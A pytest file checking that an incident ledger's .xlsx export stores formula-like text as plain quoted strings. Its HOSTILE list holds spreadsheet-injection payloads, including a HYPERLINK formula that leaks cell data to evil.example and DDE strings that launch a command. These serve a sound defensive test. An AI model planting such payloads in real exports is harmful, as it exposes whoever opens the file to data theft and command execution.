"""Issue 11 §4: the ledger (.xlsx, the only spreadsheet the product exports) never hands a spreadsheet a formula.
Text that starts with = + - @, a tab or a carriage return — a title typed or pushed by a monitoring platform, a
unit name from the admin — is read back as text (data type "s", quote prefix), characters unchanged, and never
as a formula."""

import datetime as dt
import io
import zipfile
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from incidents import services
from incidents.models import TicketRole
from reporting.ledger import INCIDENT_SHEET, TICKET_SHEET, build_ledger

SH = ZoneInfo("Asia/Shanghai")
START, END = dt.datetime(2026, 10, 1, tzinfo=SH), dt.datetime(2027, 1, 1, tzinfo=SH)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
]


@pytest.fixture
def hostile_ledger(org, make_incident):
    # Titles are stripped at input, so a leading tab or carriage return reaches the ledger through unit names.
    org.police.name, org.edu.name = "\t=1+1公安局", "\r@SUM(1)教育局"
    org.police.save()
    org.edu.save()
    with time_machine.travel(dt.datetime(2026, 10, 13, 9, tzinfo=SH), tick=False):
        for title in HOSTILE:
            make_incident(title, grade="IV")
        plain = make_incident("网传某校食堂问题", grade="IV")
        services.dispatch_incident(
            org.duty, plain, assignments=[(org.police, TicketRole.LEAD), (org.edu, TicketRole.ASSIST)]
        )
    return build_ledger(start=START, end=END)


def test_formula_text_is_written_as_text_and_read_back_unchanged(hostile_ledger):
    book = load_workbook(io.BytesIO(hostile_ledger))
    titles = {cell.value: cell for (cell,) in book[INCIDENT_SHEET].iter_rows(min_row=2, min_col=2, max_col=2)}
    for title in HOSTILE:
        cell = titles[title]  # the characters as typed
        assert cell.data_type == "s", title
        assert cell.quotePrefix, title
    units = [book[TICKET_SHEET].cell(row=row, column=4) for row in (2, 3)]
    assert [(u.value, u.data_type, u.quotePrefix) for u in units] == [
        ("\t=1+1公安局", "s", True),
        ("\r@SUM(1)教育局", "s", True),
    ]
    ordinary = titles["网传某校食堂问题"]
    assert (ordinary.data_type, ordinary.quotePrefix) == ("s", False)


def test_no_cell_of_the_file_is_a_formula(hostile_ledger):
    """In the file itself: no <f> element (a formula), every hostile title an inline string."""
    with zipfile.ZipFile(io.BytesIO(hostile_ledger)) as package:
        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets
    for xml in sheets:
        assert b"<f>" not in xml and b"<f " not in xml
        assert b't="e"' not in xml  # nor an error code


def test_numbers_and_times_keep_their_types(hostile_ledger):
    book = load_workbook(io.BytesIO(hostile_ledger))
    row = next(book[INCIDENT_SHEET].iter_rows(min_row=2, max_row=2))
    views, reported = row[13], row[10]
    assert views.data_type == "n" and views.value == 0
    assert reported.is_date
